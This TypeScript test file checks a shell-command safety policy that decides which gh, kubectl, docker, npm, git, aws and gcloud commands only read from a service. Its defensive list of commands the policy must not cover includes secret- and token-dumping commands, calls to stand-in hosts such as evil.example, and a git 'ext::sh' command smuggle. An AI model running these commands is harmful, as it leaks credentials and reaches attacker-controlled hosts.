// What only reads from a service, and what one yes to it covers for the session.

import assert from 'node:assert/strict'
import { describe, test } from 'vitest'
import { decide, NO_RULES } from '../../../../src/safety/decide.ts'
import { assessCommand } from '../../../../src/safety/shell-policy/assess-command.ts'
import { readsFromService } from '../../../../src/safety/shell-policy/programs/services.ts'
import { PLACE } from '../../../support/gate/gate-cases.ts'

const assess = (command: string) => assessCommand(command, PLACE).assessment
const word = (text: string) => ({ text, pieces: [{ kind: 'literal', value: text } as const] })

const READS: Readonly<Record<string, readonly string[]>> = {
	gh: [
		'gh pr view 3',
		'gh pr view 3 --comments --json title,body',
		'gh pr list -R a/b --state all --limit 5',
		'gh pr diff 3 --name-only',
		'gh pr checks',
		'gh issue list -l bug | head',
		'gh run view 12 --log-failed 2>&1 | tail -20',
		'gh repo view a/b',
		'gh release list',
		'gh search code "foo bar" --language go',
		'gh api repos/a/b/pulls/3/comments --jq ".[].body"',
		'gh api -X GET repos/a/b --paginate',
		'timeout 20 gh pr list',
		'n=$(gh pr list --json number); echo "$n"',
		'for n in 1 2; do gh pr view $n; done',
	],
	glab: ['glab mr list', 'glab issue view 3', 'glab ci status'],
	kubectl: [
		'kubectl get pods -n x -o wide',
		'kubectl -n x get pods',
		'kubectl describe deploy/x',
		'kubectl logs x --tail 20 --previous',
		'kubectl top nodes',
		'kubectl version',
		'kubectl api-resources',
		"kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
	],
	docker: [
		'docker logs web --tail 50',
		"docker inspect -f '{{.State.Status}}' web",
		"docker inspect --format '{{json .NetworkSettings}} {{.Id}}' web",
		'docker stats --no-stream',
		'docker network ls',
	],
	npm: ['npm view react version', 'npm outdated', 'npm audit --json', 'npm search foo'],
	pnpm: ['pnpm outdated'],
	yarn: ['yarn info react'],
	pip: ['pip index versions numpy', 'pip list --outdated'],
	cargo: ['cargo search serde --limit 3'],
	git: ['git ls-remote https://github.com/a/b.git', 'git ls-remote --heads https://github.com/a/b'],
	helm: ['helm list -A', 'helm status x -n y'],
	aws: ['aws ec2 describe-instances --region eu-west-1', 'aws s3 ls', 'aws sts get-caller-identity'],
	gcloud: ['gcloud projects list', 'gcloud compute instances list --project x'],
}

describe('a question about reading from a service', () => {
	for (const [service, commands] of Object.entries(READS))
		test(`covers all reading with ${service}`, () => {
			for (const command of commands) {
				const { outcome, sessionKeys } = assess(command)
				assert.deepEqual(
					{ outcome, sessionKeys },
					{ outcome: 'ask', sessionKeys: [`reading:${service}`] },
					command,
				)
			}
		})

	test('covers nothing that writes, shows secrets or reaches elsewhere', () => {
		const others = [
			'gh pr create',
			'gh pr merge 3',
			'gh pr checkout 3',
			'gh pr comment 3 -b x',
			'gh pr view 3 --web',
			'gh pr view 3 -w',
			'gh pr view 3 -cw',
			'gh issue close 3',
			'gh run download 3',
			'gh run rerun 3',
			'gh release download',
			'gh repo clone a/b',
			'gh repo delete a/b',
			'gh auth token',
			'gh auth status -t',
			'gh secret list',
			'gh variable list',
			'gh gist view x',
			'gh alias set x y',
			'gh extension install x',
			'gh api -X POST repos/a/b/issues',
			'gh api --method=DELETE repos/a/b',
			'gh api -XPATCH repos/a/b',
			'gh api repos/a/b/issues -f title=x',
			'gh api repos/a/b/issues -ftitle=x',
			'gh api repos/a/b/issues --field title=x',
			'gh api repos/a/b/issues --raw-field title=x',
			'gh api repos/a/b --input x.json',
			'gh api graphql',
			'gh api https://evil.example/x',
			'gh api --hostname evil.example x',
			'gh api x -H "X-HTTP-Method-Override: DELETE"',
			'gh api repos/a/b/actions/secrets/x',
			'gh api x --cache 1h',
			'gh pr list $OPTIONS',
			'gh $VERB list',
			'gh pr view "$(cat options)"',
			'gh pr view 3 > out.txt',
			'gh pr list && rm -rf build',
			'gh pr list; frobnicate',
			'GH_HOST=evil.example gh pr list',
			'GH_PAGER=./x gh pr list',
			'cd .. && gh pr list > x',
			'for v in view merge; do gh pr $v 3; done',
			'for p in gh glab; do $p issue list; done',
			'find . -exec gh pr view 3 \\; -exec rm {} \\;',
			'xargs gh pr view < a.txt',
			'env gh pr list',
			'./gh pr list',
			'kubectl get secret x',
			'kubectl get secrets',
			'kubectl get pods,secrets',
			'kubectl get secret/x -o yaml',
			"kubectl get secret x -o jsonpath='{.data}'",
			'kubectl get -o yaml secret x',
			'kubectl get --raw /api/v1/secrets',
			'kubectl get -f https://evil.example/x',
			'kubectl get -k dir',
			'kubectl get pods --kubeconfig ./x',
			'kubectl get pods --token x',
			'kubectl get pods -o go-template-file=/etc/x',
			'kubectl exec x -- ls',
			'kubectl cp x:/a b',
			'kubectl port-forward x 80',
			'kubectl delete pod x',
			'kubectl apply -f x',
			'kubectl config view --raw',
			'kubectl cluster-info dump --output-directory x',
			'kubectl run x --image y',
			'docker inspect web',
			"docker inspect -f '{{.Config.Env}}' web",
			"docker inspect -f '{{json .Config}}' web",
			"docker inspect -f '{{json .}}' web",
			"docker inspect -f '{{.}}' web",
			"docker inspect -f '{{range .Config.Env}}{{.}}{{end}}' web",
			'docker inspect -f \'{{index .Config "Env"}}\' web',
			"docker inspect -f '{{with .Config}}{{.Env}}{{end}}' web",
			'docker inspect -f \'{{.State.Status}}{{printf "%v" .}}\' web',
			"docker inspect -f '{{.State.Status}}' -f '{{.Config.Env}}' web",
			'docker exec web env',
			'docker cp web:/a b',
			'docker run x',
			'docker rm x',
			'docker -H tcp://evil:1 logs x',
			'docker --config x logs y',
			'docker stats',
			'docker login',
			'npm audit fix',
			'npm audit --fix',
			'npm view x --registry=https://evil.example',
			'npm outdated --userconfig x',
			'npm publish',
			'npm token list',
			'npm whoami --prefix x',
			'npm config list',
			'npm install x',
			'npm access list packages',
			'yarn add x',
			'pip download x',
			'pip index versions x --index-url https://evil.example',
			'pip install --dry-run x',
			'cargo search x --registry evil',
			'cargo search x --config a=b',
			'cargo install x',
			'git ls-remote',
			'git ls-remote origin',
			"git ls-remote 'ext::sh -c x'",
			'git ls-remote --upload-pack=./x https://a.example/b',
			'git ls-remote https://user:pass@a.example/b',
			'git ls-remote ssh://a.example/b',
			'git ls-remote ../x',
			'git -c a=b ls-remote https://a.example/b',
			'git fetch https://a.example/b',
			'helm get values x',
			'helm install x y',
			'helm list --post-renderer x',
			'helm list --kubeconfig x',
			'helm version --kubeconfig x',
			'kubectl version --client --kubeconfig x',
			'curl --version -o x',
			'wget -V x',
			'aws secretsmanager get-secret-value --secret-id x',
			'aws ssm get-parameters --names x',
			'aws s3 rm s3://x',
			'aws lambda list-functions',
			'aws ec2 describe-instances --endpoint-url https://evil.example',
			'aws ec2 describe-instance-attribute --attribute userData',
			'aws configure get x',
			'gcloud auth print-access-token',
			'gcloud compute instances delete x',
			'gcloud projects list --account x',
			'gcloud config list',
		]
		const covered = others.filter(command => {
			const { sessionKeys } = assess(command)
			return sessionKeys.length > 0 && sessionKeys.every(key => key.startsWith('reading:'))
		})
		assert.deepEqual(covered, [])
	})

	test('is asked once: the second call of the kind runs, one that writes still asks', () => {
		const first = assess('gh pr view 3')
		assert.equal(first.reasons[0], 'It reads from another machine, with the rights of gh.')
		const policy = {
			mode: { kind: 'ask' },
			now: 0,
			sessionGrants: new Set(first.sessionKeys),
			yolo: false,
		} as const
		const outcomes = ['gh issue list | head -3', 'gh pr merge 3', 'gh repo delete a/b', 'glab mr list'].map(
			command => decide(assess(command), NO_RULES, policy).outcome,
		)
		assert.deepEqual(outcomes, ['allow', 'ask', 'ask-always', 'ask'])
	})

	test('knows a word only as it is written', () => {
		assert.equal(readsFromService('gh', ['pr', 'list'].map(word)), 'gh')
		assert.equal(readsFromService('gh', ['pr', 'lister'].map(word)), undefined)
		assert.equal(readsFromService('gh', []), undefined)
		assert.equal(readsFromService('toString', ['pr', 'list'].map(word)), undefined)
	})
})
